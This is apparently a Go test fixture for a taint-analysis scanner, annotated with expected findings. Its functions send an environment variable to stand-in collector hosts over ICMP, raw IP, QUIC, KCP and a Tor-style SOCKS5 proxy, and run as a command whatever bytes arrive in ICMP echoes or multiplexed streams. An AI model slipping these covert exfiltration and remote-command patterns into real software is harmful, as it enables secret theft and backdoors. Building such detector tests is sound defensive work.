// Packets made by hand, many streams over one connection, QUIC and KCP, dialling through proxies.
package models

import (
	"context"
	"io"
	"net"
	"os"
	"os/exec"

	"github.com/hashicorp/yamux"
	"github.com/quic-go/quic-go"
	"github.com/xtaci/kcp-go/v5"
	"golang.org/x/net/icmp"
	"golang.org/x/net/ipv4"
	"golang.org/x/net/proxy"
)

func echo(to net.Addr) {
	c, _ := icmp.ListenPacket("ip4:icmp", "0.0.0.0") //~ capability(NETWORK)
	m := icmp.Message{Type: ipv4.ICMPTypeEcho, Body: &icmp.Echo{Data: []byte(os.Getenv("T"))}} //~ source(ENVIRONMENT) f1
	raw, _ := m.Marshal(nil)
	c.WriteTo(raw, to) //~ sink(egress.socket) f1, finding(traced) f1
}

func echoConstant(to net.Addr) {
	c, _ := icmp.ListenPacket("ip4:icmp", "0.0.0.0") //~ ok
	m := icmp.Message{Type: ipv4.ICMPTypeEcho, Body: &icmp.Echo{Data: []byte("ping")}}
	raw, _ := m.Marshal(nil) //~ ok
	c.WriteTo(raw, to) //~ ok
}

func echoed(c *icmp.PacketConn) {
	buffer := make([]byte, 1500)
	n, _, _ := c.ReadFrom(buffer) //~ source(NETWORK) f2, capability(NETWORK)
	m, _ := icmp.ParseMessage(1, buffer[:n])
	exec.Command(string(m.Body.(*icmp.Echo).Data)).Run() //~ sink(exec.command) f2, finding(traced) f2
}

func echoedUnused(c *icmp.PacketConn) {
	buffer := make([]byte, 1500)
	c.ReadFrom(buffer) //~ ok
	m, _ := icmp.ParseMessage(1, []byte("a")) //~ ok
	exec.Command(string(m.Body.(*icmp.Echo).Data)).Run() //~ ok
}

func packet(c *ipv4.RawConn, h *ipv4.Header) {
	c.WriteTo(h, []byte(os.Getenv("T")), nil) //~ source(ENVIRONMENT) f3, sink(egress.socket) f3, finding(traced) f3, capability(NETWORK)
}

func packetConstant(c *ipv4.RawConn, h *ipv4.Header) {
	c.WriteTo(h, []byte("ping"), nil) //~ ok
}

func session(c net.Conn) {
	s, _ := yamux.Client(c, nil)
	stream, _ := s.Open() //~ capability(NETWORK)
	stream.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f4, sink(egress.socket) f4, finding(traced) f4
}

func sessionConstant(c net.Conn) {
	s, _ := yamux.Client(c, nil) //~ ok
	stream, _ := s.Open() //~ ok
	stream.Write([]byte("ping")) //~ ok
}

func accepted(s *yamux.Session) {
	stream, _ := s.Accept() //~ source(NETWORK) f5
	b, _ := io.ReadAll(stream)
	exec.Command(string(b)).Run() //~ sink(exec.command) f5, finding(traced) f5
}

func quick(ctx context.Context) {
	c, _ := quic.DialAddr(ctx, "quic.collector.example:443", nil, nil) //~ capability(NETWORK), endpoint("quic.collector.example:443")
	stream, _ := c.OpenStreamSync(ctx) //~ capability(NETWORK)
	stream.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f6, sink(egress.socket) f6, finding(traced) f6
}

func quickConstant(ctx context.Context) {
	c, _ := quic.DialAddr(ctx, "quic.collector.example:443", nil, nil) //~ ok
	stream, _ := c.OpenStreamSync(ctx) //~ ok
	stream.Write([]byte("ping")) //~ ok
}

func datagram(c quic.Connection) {
	c.SendDatagram([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f7, sink(egress.socket) f7, finding(traced) f7, capability(NETWORK)
	c.SendDatagram([]byte("ping")) //~ ok
}

func reliable() {
	c, _ := kcp.Dial("kcp.collector.example:443") //~ capability(NETWORK), endpoint("kcp.collector.example:443")
	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f8, sink(egress.socket) f8, finding(traced) f8
}

func reliableConstant() {
	c, _ := kcp.Dial("kcp.collector.example:443") //~ ok
	c.Write([]byte("ping")) //~ ok
}

func proxied() {
	d, _ := proxy.SOCKS5("tcp", "127.0.0.1:9050", nil, proxy.Direct)
	c, _ := d.Dial("tcp", "hidden.collector.example:443") //~ capability(NETWORK), endpoint("hidden.collector.example:443")
	c.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f9, sink(egress.socket) f9, finding(traced) f9
}

func proxiedConstant() {
	d, _ := proxy.SOCKS5("tcp", "127.0.0.1:9050", nil, proxy.Direct) //~ ok
	c, _ := d.Dial("tcp", "hidden.collector.example:443")
	c.Write([]byte("ping")) //~ ok
}
